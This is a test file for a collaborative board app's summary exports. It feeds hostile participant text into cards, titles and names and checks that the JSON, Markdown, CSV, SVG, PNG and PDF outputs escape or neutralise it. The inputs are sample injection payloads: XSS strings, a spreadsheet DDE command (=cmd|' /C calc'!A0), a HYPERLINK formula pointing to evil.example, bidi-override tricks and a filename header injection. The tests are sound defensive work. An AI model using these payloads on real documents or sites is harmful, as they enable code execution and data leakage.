// Text from participants is data in every export format. One board, written through the stock
// y-websocket client (and the preparation over HTTP), carries the same hostile texts in its
// cards of every kind, authors, board title, zone titles, ground rules, metric, action owner,
// people and session details; every format of the registry is downloaded from the real server
// and read back with a real parser: JSON.parse, csv-parse, fast-xml-parser, pngjs, poppler.
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { createRequire } from 'node:module';
import {
  AUTHOR_MAX_LENGTH,
  addMetric,
  addNote,
  agreeToGroundRules,
  CARD_KINDS,
  type Card,
  type CardKind,
  defaultPrep,
  GROUND_RULE_MAX_LENGTH,
  joinSession,
  listNotes,
  listZones,
  placeDot,
  revealVotes,
  type SessionSummary,
  type SummaryNote,
  setGroundRules,
  startVote,
  updateZoneText,
} from '@dartboard/board';
import { Ajv2020 } from 'ajv/dist/2020.js';
import addFormats from 'ajv-formats';
import { parse } from 'csv-parse/sync';
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import { openSync } from 'fontkit';
import { PNG } from 'pngjs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXPORT_FORMATS, isExportFormat } from '../src/export/formats.js';
import {
  type CreatedBoard,
  connectClient,
  createBoard,
  saveFirstPrep,
  startServer,
  type TestClient,
  type TestServer,
  waitFor,
} from './helpers.js';
import { type ReadPdf, readPdf, readWordBoxes } from './poppler.js';

/** A hostile text and how the Markdown must write it. */
interface Hostile {
  text: string;
  /** Its lines in a list item, each escaped; blank lines left out. */
  md: string[];
  /** Folded onto one line and escaped (a table cell); `md` joined by spaces when not given. */
  mdLine?: string;
}

const LONG_WORD = 'x'.repeat(400);
const ACCENTS = 'Größe, Straße, Añón, niño, Łódź, żółć';

// The order puts the texts most likely to break a table (lines that start blocks, pipes) on
// the cards that also go into one: card i is of kind CARD_KINDS[i % 8] (note, question,
// answer, risk, benefit, idea, action, commitment); an answer answers the question before it.
const HOSTILE: Hostile[] = [
  { text: '# heading\n## second', md: ['\\# heading', '\\#\\# second'] },
  {
    text: '[link](javascript:alert(1)) ![img](x.png) <https://evil.example>',
    md: ['\\[link\\](javascript:alert(1)) !\\[img\\](x.png) \\<https\\://evil.example\\>'],
  },
  { text: '**bold** _em_ ~~del~~ $x$', md: ['\\*\\*bold\\*\\* \\_em\\_ \\~\\~del\\~\\~ \\$x\\$'] },
  {
    text: 'line one\nline two\r\nline three\r\n- not an item\n> not a quote\n1. not a list',
    md: [
      'line one',
      'line two',
      'line three',
      '\\- not an item',
      '\\> not a quote',
      '1\\. not a list',
    ],
    mdLine: 'line one line two line three - not an item \\> not a quote 1. not a list',
  },
  { text: '`code` ```js', md: ['\\`code\\` \\`\\`\\`js'] },
  {
    text: '<!-- hidden --> <script>alert(1)</script>',
    md: ['\\<!-- hidden --\\> \\<script\\>alert(1)\\</script\\>'],
  },
  {
    text: '<img src=x onerror=alert(1)> ]]> &amp; \'single\' "double"',
    md: ['\\<img src=x onerror=alert(1)\\> \\]\\]\\> \\&amp; \'single\' "double"'],
  },
  {
    text: '=HYPERLINK("https://evil.example/?q="&A1,"click")',
    md: ['\\=HYPERLINK("https\\://evil.example/?q="\\&A1,"click")'],
  },
  { text: '+1', md: ['\\+1'] },
  { text: '-2+3', md: ['\\-2+3'] },
  { text: '@SUM(A1)', md: ['@SUM(A1)'] },
  { text: '| a | b |\n|---|---|', md: ['\\| a \\| b \\|', '\\|---\\|---\\|'] },
  { text: '\t=1+1 after a tab', md: ['\\=1+1 after a tab'] },
  { text: '\r=1+1 after a CR', md: ['\\=1+1 after a CR'] },
  { text: 'nul\u0000 bell\u0007 esc\u001b[31m red\u009b', md: ['nul bell esc\\[31m red'] },
  { text: '\u202Eevil\u202C and \u2066isolate\u2069', md: ['evil and isolate'] },
  { text: 'zero\u200Dwidth joiner', md: ['zero\u200Dwidth joiner'] },
  // The websocket carries UTF-8: a lone surrogate arrives as U+FFFD (see `wire`).
  { text: 'lone \ud800 high, lone \udc00 low', md: ['lone \ufffd high, lone \ufffd low'] },
  { text: LONG_WORD, md: [LONG_WORD] },
  { text: 'Emoji 🎉👩‍💻🇩🇪', md: ['Emoji 🎉👩‍💻🇩🇪'] },
  { text: ACCENTS, md: [ACCENTS] },
  { text: '\\ backslash \\* star', md: ['\\\\ backslash \\\\\\* star'] },
];

/** Display names, each with how the Markdown writes it once the model made it one line. */
const AUTHORS: { text: string; md: string }[] = [
  { text: '<b>Mallory</b>', md: '\\<b\\>Mallory\\</b\\>' },
  { text: "=cmd|' /C calc'!A0", md: "\\=cmd\\|' /C calc'!A0" },
  { text: '# Eve [x](y)', md: '\\# Eve \\[x\\](y)' },
  { text: '\tJörg\r\nMüller\u0000', md: 'Jörg Müller' },
  { text: '@Begoña Núñez', md: '@Begoña Núñez' },
  { text: 'Zbyněk \u202EŁukasiewicz\u202C', md: 'Zbyněk Łukasiewicz' },
  // One word longer than a name may be: the model keeps AUTHOR_MAX_LENGTH characters of it.
  { text: 'z'.repeat(100), md: 'z'.repeat(AUTHOR_MAX_LENGTH) },
];

const TITLE =
  '<script>alert("t")</script> # Größe | Añón =1+1 \u202Eevil\u202C\r\n"; filename=a.exe';
const TITLE_MD =
  '\\<script\\>alert("t")\\</script\\> \\# Größe \\| Añón =1+1 evil "; filename=a.exe';
const TITLE_SLUG = 'scriptalerttscript-grosse-anon-11-evil-filenameaexe';
const TITLE_SLUG_UNICODE = 'scriptalerttscript-größe-añón-11-evil-filenameaexe';
const ZONE_TITLES: { text: string; md: string }[] = [
  { text: '## Zone <script>', md: '\\#\\# Zone \\<script\\>' },
  { text: '=1+1 | pipes', md: '\\=1+1 \\| pipes' },
  { text: '[z](javascript:x) \u0007bell', md: '\\[z\\](javascript:x) bell' },
  { text: 'Łódź — ñ ß 🎉', md: 'Łódź — ñ ß 🎉' },
];
const PROMPT = { text: 'prompt <!-- x --> `tick`', md: 'prompt \\<!-- x --\\> \\`tick\\`' };
const RULES = [
  { text: '=rule() <b>x</b>', md: '1. \\=rule() \\<b\\>x\\</b\\>' },
  { text: '# rule | pipe [l](j:x)', md: '2. \\# rule \\| pipe \\[l\\](j:x)' },
  { text: 'y'.repeat(GROUND_RULE_MAX_LENGTH), md: `3. ${'y'.repeat(GROUND_RULE_MAX_LENGTH)}` },
];
const METRIC = {
  metric: '@metric <i>x</i>',
  target: '-20 % | ]]>',
  md: '- Success: @metric \\<i\\>x\\</i\\> — target: \\-20 % \\| \\]\\]\\>',
};
const OWNER = { text: '@owner <i>x</i> | y', md: '@owner \\<i\\>x\\</i\\> \\| y' };
const DUE = '2026-12-01';
// Over HTTP (JSON), not the websocket: the lone surrogate reaches the server as it is.
const GOAL = '<b>goal</b> \ud800 =1 | x';
const CUSTOMER = '=Begoña Núñez';
const COMPANY = '| Añón <S.L.>';
const PERSON = { id: 'p-mallory', name: AUTHORS[0]?.text ?? '', md: AUTHORS[0]?.md ?? '' };
/** Someone on the view link, known to the summary only by the name their presence gave. */
const VIEWER = {
  name: '<img src=x onerror=alert(2)>\t\u202E=VIEW\u0000',
  md: '\\<img src=x onerror=alert(2)\\> =VIEW',
};

const CARD = { width: 600, height: 560 };

/** A card of `kind` with its fields; an answer answers `question`. */
function cardOf(kind: CardKind, question: string | null): Card {
  switch (kind) {
    case 'note':
      return { kind };
    case 'question':
      return { kind, spin: 'situation', deckId: null };
    case 'answer':
      return { kind, answerTo: question };
    case 'risk':
      return { kind, weight: 3 };
    case 'benefit':
      return { kind, weight: 1 };
    case 'idea':
      return { kind, feasibility: 'realistic' };
    case 'action':
      return { kind, owner: OWNER.text, due: DUE };
    case 'commitment':
      return { kind, side: 'customer' };
  }
}

/** What the websocket (UTF-8) makes of a text: each lone surrogate becomes U+FFFD. */
function wire(text: string): string {
  return text.replace(
    /[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g,
    '\ufffd',
  );
}

/** A one-line field as the model keeps it (normalizeAuthor, normalizeTitle): folded, trimmed. */
function oneLine(text: string): string {
  return text.replace(/\s+/g, ' ').trim();
}

/** A display name as the model keeps it: one line, at most AUTHOR_MAX_LENGTH characters. */
function authorName(text: string): string {
  return oneLine(text).slice(0, AUTHOR_MAX_LENGTH);
}

// What no format but JSON may carry of people's text: C0 and C1 control characters (line
// breaks, tabs and NEL aside, which each format handles as whitespace) and the bidi embeddings,
// overrides and isolates.
const INVISIBLE =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: finding them is the point.
  /[\u0000-\u0008\u000e-\u001f\u007f-\u0084\u0086-\u009f\u202a-\u202e\u2066-\u2069]/g;
const BIDI = /[\u202a-\u202e\u2066-\u2069]/;
// biome-ignore lint/suspicious/noControlCharactersInRegex: finding them is the point.
const CONTROL = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f]/;

interface Written {
  id: string;
  kind: CardKind;
  /** The title of the lane it lies in; null outside the lanes. */
  zone: string | null;
  hostile: Hostile;
  author: { text: string; md: string };
  x: number;
  y: number;
}

let server: TestServer;
let board: CreatedBoard;
let client: TestClient;
let viewer: TestClient;
const cards: Written[] = [];
const downloads = new Map<string, { response: Response; bytes: Uint8Array }>();

function text(format: string): string {
  return new TextDecoder().decode(downloads.get(format)?.bytes);
}

beforeAll(async () => {
  server = await startServer();
  board = await createBoard(server.url, { title: TITLE, template: 'spin' });
  const prep = defaultPrep();
  prep.goal = GOAL;
  prep.customer = CUSTOMER;
  prep.company = COMPANY;
  prep.summary = { goal: true, customer: true };
  expect((await saveFirstPrep(server.url, board, prep)).status).toBe(200);

  client = connectClient(server.wsUrl, board.id, board.tokens.facilitator);
  await client.synced;
  const { doc } = client;
  const lanes = listZones(doc);
  expect(lanes).toHaveLength(ZONE_TITLES.length);
  lanes.forEach((lane, i) => {
    updateZoneText(doc, lane.id, {
      title: ZONE_TITLES[i]?.text ?? '',
      ...(i === 0 ? { prompt: PROMPT.text } : {}),
    });
  });
  setGroundRules(
    doc,
    RULES.map((rule) => rule.text),
  );
  addMetric(doc, { metric: METRIC.metric, target: METRIC.target, kind: 'success' });
  let question: string | null = null;
  HOSTILE.forEach((hostile, i) => {
    const kind = CARD_KINDS[i % CARD_KINDS.length] ?? 'note';
    const card = cardOf(kind, question);
    // The first eight in the lanes, two to a lane under its title; the rest to their right.
    const lane = lanes[Math.floor(i / 2)];
    const spot =
      i < 8 && lane
        ? { x: lane.x + 80, y: lane.y + 140 + (i % 2) * 660 }
        : { x: 3400 + ((i - 8) % 4) * 700, y: Math.floor((i - 8) / 4) * 700 };
    const author = AUTHORS[i % AUTHORS.length] ?? { text: '', md: '' };
    const id = addNote(doc, {
      ...spot,
      ...CARD,
      text: hostile.text,
      author: author.text,
      card,
      createdAt: Date.now() - 60_000 + i * 1000,
    });
    if (kind === 'question') question = id;
    const zone = i < 8 ? (ZONE_TITLES[Math.floor(i / 2)]?.text ?? null) : null;
    cards.push({ id, kind, zone, hostile, author, ...spot });
  });
  await waitFor(
    'the cards on the server',
    () => {
      const room = server.app.rooms.loaded(board.id);
      return !!room && listNotes(room.doc).length === HOSTILE.length;
    },
    20_000,
  );
  // A person as the page records them, who agrees and votes: a change of the server's own.
  const room = server.app.rooms.loaded(board.id);
  if (!room) throw new Error('no room');
  await room.change((doc) => {
    joinSession(doc, PERSON.id, PERSON.name, 'edit', Date.now());
    agreeToGroundRules(doc, PERSON.id, true, Date.now());
    startVote(doc, { dots: 1 }, Date.now());
    expect(placeDot(doc, PERSON.id, cards[0]?.id ?? '')).toBe('placed');
    revealVotes(doc, Date.now());
  });
  viewer = connectClient(server.wsUrl, board.id, board.tokens.view);
  viewer.provider.awareness.setLocalStateField('user', { name: VIEWER.name, color: '#2563eb' });
  const deadline = Date.now() + 10_000;
  while (!(await server.app.storage.listVisits(board.id)).some((v) => v.role === 'view')) {
    if (Date.now() > deadline) throw new Error('the viewer’s visit was never recorded');
    await new Promise((resolve) => setTimeout(resolve, 20));
  }

  for (const format of Object.keys(EXPORT_FORMATS)) {
    const response = await fetch(`${server.url}/api/boards/${board.id}/summary?format=${format}`, {
      headers: { authorization: `Bearer ${board.tokens.facilitator}` },
    });
    const bytes = new Uint8Array(await response.arrayBuffer());
    downloads.set(format, { response, bytes });
  }
}, 120_000);

afterAll(async () => {
  client?.destroy();
  viewer?.destroy();
  await server?.cleanup();
});

/** The formats this file reads back, one describe block each below. */
const READ_BACK = ['md', 'json', 'csv', 'svg', 'png', 'pdf'];

describe('every format of the registry', () => {
  it('is read back below: a new format needs its reader here', () => {
    expect(Object.keys(EXPORT_FORMATS).sort()).toEqual([...READ_BACK].sort());
  });

  it('is downloaded, with a file name made only of safe characters', () => {
    expect([...downloads.keys()]).toEqual(Object.keys(EXPORT_FORMATS));
    for (const [format, { response }] of downloads) {
      expect(response.status, format).toBe(200);
      const disposition = response.headers.get('content-disposition') ?? '';
      const extension = isExportFormat(format) ? EXPORT_FORMATS[format].extension : undefined;
      const match =
        /^attachment; filename="(dartboard-[^"]*)"; filename\*=UTF-8''([A-Za-z0-9%._~!$&+^`|-]+)$/.exec(
          disposition,
        );
      expect(match, `${format}: ${disposition}`).not.toBeNull();
      // One quoted ASCII name: no quote, semicolon, backslash or control character inside it.
      expect(match?.[1], format).toMatch(
        new RegExp(`^dartboard-${TITLE_SLUG}-\\d{4}-\\d\\d-\\d\\d\\.${extension}$`),
      );
      expect(match?.[1], format).toMatch(/^[a-z0-9.-]+$/);
      // The title's own letters in the percent-encoded one, and nothing else of the title.
      expect(decodeURIComponent(match?.[2] ?? ''), format).toMatch(
        new RegExp(`^dartboard-${TITLE_SLUG_UNICODE}-\\d{4}-\\d\\d-\\d\\d\\.${extension}$`),
      );
    }
  });
});

describe('format=json', () => {
  let summary: SessionSummary;
  const schema = JSON.parse(
    readFileSync(new URL('../../../docs/summary.schema.json', import.meta.url), 'utf8'),
  ) as object;

  beforeAll(() => {
    summary = JSON.parse(text('json')) as SessionSummary;
  });

  it('validates against its schema', () => {
    const ajv = new Ajv2020({ allErrors: true, strict: true });
    addFormats.default(ajv);
    const validate = ajv.compile(schema);
    expect(validate(summary), ajv.errorsText(validate.errors)).toBe(true);
  });

  it('gives back every text as written; one-line fields folded, as the model keeps them', () => {
    const notes = new Map<string, SummaryNote>(
      [...summary.zones, summary.outside].flatMap((zone) => zone.notes).map((n) => [n.id, n]),
    );
    expect(notes.size).toBe(cards.length);
    for (const card of cards) {
      const note = notes.get(card.id);
      expect(note?.text, JSON.stringify(card.hostile.text)).toBe(wire(card.hostile.text));
      expect(note?.author).toBe(authorName(card.author.text));
      expect(note?.card.kind).toBe(card.kind);
    }
    expect(summary.title).toBe(oneLine(TITLE));
    expect(summary.zones.map((zone) => zone.title)).toEqual(ZONE_TITLES.map((z) => z.text));
    expect(summary.zones[0]?.prompt).toBe(PROMPT.text);
    expect(summary.groundRules.rules).toEqual(RULES.map((rule) => rule.text));
    expect(summary.groundRules.agreed.map((person) => person.name)).toEqual([PERSON.name]);
    expect(summary.metrics).toEqual([
      { metric: METRIC.metric, target: METRIC.target, kind: 'success' },
    ]);
    expect(summary.actions.map((action) => action.owner)).toEqual(
      cards.filter((card) => card.kind === 'action').map(() => OWNER.text),
    );
    expect(summary.votes?.ranking).toMatchObject([
      { noteId: cards[0]?.id, text: cards[0]?.hostile.text, voters: [PERSON.name] },
    ]);
    // Over HTTP the lone surrogate arrives; JSON writes it as the escape \ud800.
    expect(summary.session).toEqual({ goal: GOAL, customer: CUSTOMER, company: COMPANY });
    expect(summary.participants).toContainEqual(
      expect.objectContaining({ name: oneLine(VIEWER.name), role: 'view' }),
    );
    expect(text('json')).toContain('\\ud800');
  });
});

describe('format=md', () => {
  let md: string;
  beforeAll(() => {
    md = text('md');
  });

  it('has exactly the summary’s headings: none made by a text', () => {
    const headings = md.split('\n').filter((line) => /^ {0,3}#/.test(line));
    expect(headings).toEqual([
      `# ${TITLE_MD}`,
      '## Ground rules',
      ...ZONE_TITLES.map((zone) => `## ${zone.md}`),
      '## Outside the zones',
      '## Questions',
      '### Situation',
      '## Risks and benefits',
      '## Ideas',
      '## Votes',
      '## Test metrics',
      '## Actions',
      '## Commitments',
      '### Customer',
      '### Supplier',
      '### Both sides',
    ]);
  });

  it('writes every text escaped, each line of a note inside its list item', () => {
    // Each card in its zone's section (or outside the zones), after its kind's tag.
    const tags: Record<CardKind, string> = {
      note: '',
      question: 'Question (situation): ',
      answer: 'Answer: ',
      risk: 'Risk (high): ',
      benefit: 'Benefit (low): ',
      idea: 'Idea (realistic): ',
      action: `Action item (${OWNER.md}, due ${DUE}): `,
      commitment: 'Commitment (customer): ',
    };
    for (const card of cards) {
      const item = `${card.hostile.md.join('  \n  ')} — *${card.author.md}*`;
      expect(md, JSON.stringify(card.hostile.text)).toContain(`\n- ${tags[card.kind]}${item}\n`);
    }
    expect(md).toContain(`\n\n*${PROMPT.md}*\n\n`);
    expect(md).toContain(`\n\n${RULES.map((rule) => rule.md).join('\n')}\n\n`);
    expect(md).toContain(`\n\n${METRIC.md}\n\n`);
    expect(md).toContain(`\n\n**Goal:** \\<b\\>goal\\</b\\> \ufffd =1 \\| x\n\n`);
    expect(md).toContain('\n\n**Customer:** \\=Begoña Núñez (\\| Añón \\<S.L.\\>)\n\n');
    expect(md).toContain(`Agreed by ${PERSON.md} (`);
    // The viewer first: the only one the server saw.
    expect(md).toContain(`\nParticipants: ${VIEWER.md} (observer, `);
    const first = cards[0];
    expect(md).toContain(`\n1. ${first?.hostile.md.join(' ')} — **1 dot** (${PERSON.md})\n`);
  });

  it('keeps each table cell in its cell, on one line', () => {
    const line = (card: Written) => card.hostile.mdLine ?? card.hostile.md.join(' ');
    const rows = md.split('\n').filter((row) => row.startsWith('| '));
    for (const card of cards.filter((c) => c.kind === 'risk' || c.kind === 'benefit')) {
      const weight = card.kind === 'risk' ? 'High' : 'Low';
      const cell = `**${weight}:** ${line(card)} — *${card.author.md}*`;
      expect(
        rows.some((row) => row.includes(` ${cell} |`)),
        cell,
      ).toBe(true);
    }
    for (const card of cards.filter((c) => c.kind === 'action')) {
      expect(rows).toContain(`| ${line(card)} | ${OWNER.md} | ${DUE} |`);
    }
    // The cell boundaries, the pipes left once escapes are taken out: two columns for risks
    // and benefits (head, rule, three rows), three for the actions (head, rule, two rows).
    const pipes = rows.map((row) => row.replace(/\\./g, '').replace(/[^|]/g, '').length);
    expect(pipes).toEqual([3, 3, 3, 3, 3, 4, 4, 4, 4]);
  });

  it('leaves no markup, HTML or control character unescaped', () => {
    // Outside backslash escapes: no link, image, HTML, comment, code span or CDATA end.
    const bare = md.replace(/\\[!-/:-@[-`{-~]/g, '');
    expect(bare).not.toMatch(/[<>[\]`]/);
    expect(md).not.toMatch(/(?<!\\)<(?:script|img|!--)/i);
    expect(md).not.toMatch(CONTROL);
    expect(md).not.toMatch(BIDI);
    // Every line starts as one of the summary's own lines does.
    for (const line of md.split('\n')) {
      expect(line).toMatch(
        /^(?:$|#{1,3} |- | {2}- | {2}\S|\d+\. |\| |\*|\*\*|Session date: |Participants: |Agreed by |\d+ dots? each )/,
      );
    }
  });
});

/** A CSV cell as summaryToCsv writes people's text: controls out, then a formula quoted. */
function csvCell(value: string): string {
  const visible = value.replace(INVISIBLE, '');
  return /^[=+\-@\t\r]/.test(visible) ? `'${visible}` : visible;
}

describe('format=csv', () => {
  it('reads back one row per card, formulas neutralised, control characters left out', () => {
    const rows = parse(text('csv'), { bom: true, columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(cards.length);
    for (const card of cards) {
      const row = rows.find((r) => r.id === card.id);
      expect(row, JSON.stringify(card.hostile.text)).toMatchObject({
        kind: card.kind,
        zone: card.zone === null ? '' : csvCell(card.zone),
        text: csvCell(wire(card.hostile.text)),
        author: csvCell(authorName(card.author.text)),
        owner: card.kind === 'action' ? csvCell(OWNER.text) : '',
      });
    }
    for (const row of rows) {
      for (const column of ['zone', 'text', 'author', 'owner']) {
        const cell = row[column] ?? '';
        expect(cell, `${column}: ${JSON.stringify(cell)}`).not.toMatch(/^[=+\-@\t\r]/);
        expect(cell).not.toMatch(CONTROL);
        expect(cell).not.toMatch(BIDI);
      }
    }
    // The texts that start a formula come back quoted, and only those.
    const quoted = rows.filter((row) => row.text?.startsWith("'")).map((row) => row.text);
    expect(quoted).toEqual([
      '\'=HYPERLINK("https://evil.example/?q="&A1,"click")',
      "'+1",
      "'-2+3",
      "'@SUM(A1)",
      "'\t=1+1 after a tab",
      "'\r=1+1 after a CR",
    ]);
  });
});

/** One element of fast-xml-parser's ordered output: its name, attributes and children. */
type XmlNode = Record<string, unknown> & { ':@'?: Record<string, string> };

interface Element {
  name: string;
  attributes: Record<string, string>;
  /** The text of the element and all inside it, in document order. */
  text: string;
  children: Element[];
}

/** The elements among fast-xml-parser's ordered nodes, each with the text inside it in order. */
function elementsOf(nodes: XmlNode[]): Element[] {
  return nodes.flatMap((node) => {
    const name = Object.keys(node).find((key) => key !== ':@');
    if (!name || name === '#text') return [];
    const inside = node[name] as XmlNode[];
    const pieces = inside.map((child) => {
      if ('#text' in child) return { text: String(child['#text']), element: null };
      const [element] = elementsOf([child]);
      return { text: element?.text ?? '', element };
    });
    return [
      {
        name,
        attributes: node[':@'] ?? {},
        text: pieces.map((piece) => piece.text).join(''),
        children: pieces.flatMap((piece) => (piece.element ? [piece.element] : [])),
      },
    ];
  });
}

function walk(element: Element): Element[] {
  return [element, ...element.children.flatMap(walk)];
}

// biome-ignore lint/suspicious/noControlCharactersInRegex: these are what XML 1.0 cannot hold.
const NOT_XML = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f\ufffe\uffff]/g;
/** A text as a picture holds it: without what XML cannot hold, C1 controls and bidi controls. */
const pictured = (text: string) =>
  text.replace(NOT_XML, '').replace(/[\u0080-\u0084\u0086-\u009f\u202a-\u202e\u2066-\u2069]/g, '');

/** A text as the picture's lines hold it, compared without spaces, hyphens or bidi controls. */
function squashed(value: string): string {
  return pictured(value).replace(/[\s\-‐\u0085]/g, '');
}

describe('format=svg', () => {
  let svg: string;
  let root: Element;
  beforeAll(() => {
    svg = text('svg');
    const parsed = new XMLParser({
      preserveOrder: true,
      ignoreAttributes: false,
      attributeNamePrefix: '',
      trimValues: false,
      parseTagValue: false,
      parseAttributeValue: false,
    }).parse(svg) as XmlNode[];
    const [top] = elementsOf(parsed);
    if (!top) throw new Error('no root element');
    root = top;
  });

  it('is well-formed SVG of the picture’s own elements only: no script, handler or link', () => {
    expect(XMLValidator.validate(svg)).toBe(true);
    expect(root.name).toBe('svg');
    const all = walk(root);
    expect(new Set(all.map((element) => element.name))).toEqual(
      new Set(['svg', 'title', 'rect', 'text', 'g', 'path', 'circle']),
    );
    for (const element of all) {
      for (const [name, value] of Object.entries(element.attributes)) {
        expect(name).not.toMatch(/^on|href$/i);
        expect(value).not.toMatch(/javascript:|<|url\(/i);
      }
    }
  });

  it('holds every text as text: title, zone titles, each card’s lines', () => {
    const all = walk(root);
    expect(all.find((element) => element.name === 'title')?.text).toBe(
      pictured(oneLine(wire(TITLE))),
    );
    const texts = all.filter((element) => element.name === 'text').map((element) => element.text);
    for (const zone of ZONE_TITLES) expect(texts).toContain(pictured(zone.text));
    for (const card of cards) {
      const group = all.find(
        (element) =>
          element.name === 'g' && element.attributes.transform === `translate(${card.x} ${card.y})`,
      );
      expect(group, JSON.stringify(card.hostile.text)).toBeDefined();
      expect(squashed(group?.text ?? ''), JSON.stringify(card.hostile.text)).toContain(
        squashed(wire(card.hostile.text)),
      );
    }
  });

  // "\u202Eevil\u202C" would be drawn reversed ("live") in a browser and in the PNG.
  it('leaves out bidi overrides, as the Markdown, CSV and PDF do', () => {
    const texts = walk(root).filter((e) => e.name === 'text' || e.name === 'title');
    for (const element of texts) expect(element.text).not.toMatch(BIDI);
  });
});

// "red\u009b" would keep its CSI, which XML 1.0 admits only as discouraged.
it('format=svg leaves out C1 control characters, as the other formats do', () => {
  expect(text('svg')).not.toMatch(/[\u0080-\u009f]/);
});

describe('format=png', () => {
  it('decodes, at the size of the SVG picture', () => {
    const image = PNG.sync.read(Buffer.from(downloads.get('png')?.bytes ?? []));
    const size = /<svg[^>]*\swidth="(\d+)"[^>]*\sheight="(\d+)"/.exec(text('svg'));
    expect([image.width, image.height]).toEqual([Number(size?.[1]), Number(size?.[2])]);
  });
});

const require = createRequire(import.meta.url);
const NOTO_PATH = require.resolve(
  '@expo-google-fonts/noto-sans/400Regular/NotoSans_400Regular.ttf',
);
const NOTO = (() => {
  const font = openSync(NOTO_PATH);
  if (!('hasGlyphForCodePoint' in font)) throw new Error(`${NOTO_PATH} is a font collection`);
  return font;
})();

/**
 * A text as the report prints it, compared without whitespace: controls and bidi overrides
 * out (cleanText), the characters Noto Sans has no glyph for (emoji) drawn as its placeholder,
 * which has no text, and format characters (the zero-width joiner) that pdftotext drops.
 */
function printed(value: string): string {
  return [...value.replace(INVISIBLE, '').replace(/\s+/g, '')]
    .filter((char) => NOTO.hasGlyphForCodePoint(char.codePointAt(0) ?? 0))
    .join('')
    .replace(/\p{Cf}/gu, '');
}

describe('format=pdf', () => {
  let pdf: ReadPdf;
  let all: string;
  beforeAll(() => {
    const bytes = downloads.get('pdf')?.bytes ?? new Uint8Array();
    expect(Buffer.from(bytes.subarray(0, 5)).toString('latin1')).toBe('%PDF-');
    pdf = readPdf(bytes);
    all = pdf.pages.join('\n');
  });

  it('prints every text as plain text, accents intact, control characters gone', () => {
    const flat = all.replace(/\s+/g, '');
    for (const card of cards) {
      expect(flat, JSON.stringify(card.hostile.text)).toContain(printed(wire(card.hostile.text)));
      expect(flat).toContain(printed(authorName(card.author.text)));
    }
    for (const value of [TITLE, ...ZONE_TITLES.map((z) => z.text), PROMPT.text, OWNER.text]) {
      expect(flat).toContain(printed(wire(value)));
    }
    for (const rule of RULES) expect(flat).toContain(printed(rule.text));
    expect(flat).toContain(printed(`${METRIC.metric} — target: ${METRIC.target}`));
    expect(flat).toContain(printed(`${CUSTOMER} (${COMPANY})`));
    expect(flat).toContain(printed(`${VIEWER.name} (observer`));
    expect(all).toContain(ACCENTS);
    expect(all).toContain('<script>alert(1)</script>');
    expect(all).toContain('Jörg Müller');
    expect(all).not.toMatch(CONTROL);
    expect(all).not.toMatch(BIDI);
  });

  it('breaks the long word inside the page: no word crosses the margins', () => {
    const runs = all.match(/x{20,}/g) ?? [];
    expect(runs.length).toBeGreaterThan(1);
    expect(runs.join('').length % LONG_WORD.length).toBe(0);
    const margin = (20 * 72) / 25.4;
    const boxes = readWordBoxes(downloads.get('pdf')?.bytes ?? new Uint8Array());
    expect(boxes.length).toBeGreaterThan(100);
    for (const box of boxes) {
      expect(box.xMin, `${box.word} on page ${box.page}`).toBeGreaterThanOrEqual(margin - 1);
      expect(box.xMax, `${box.word} on page ${box.page}`).toBeLessThanOrEqual(
        box.pageWidth - margin + 1,
      );
    }
  });

  it('names the document after the title, cleaned as the text is', () => {
    const info = execFileSync('pdfinfo', ['-enc', 'UTF-8', '-'], {
      input: downloads.get('pdf')?.bytes,
      encoding: 'utf8',
    });
    expect(info.split('\n')).toContain(
      `Title:           ${oneLine(wire(TITLE).replace(INVISIBLE, ''))}`,
    );
  });

  it('renders every page', () => {
    expect(pdf.images).toHaveLength(pdf.pages.length);
    for (const image of pdf.images) expect(PNG.sync.read(image).width).toBeGreaterThan(0);
    for (const ink of pdf.ink) expect(ink).toBeGreaterThan(0.0003);
  });
});
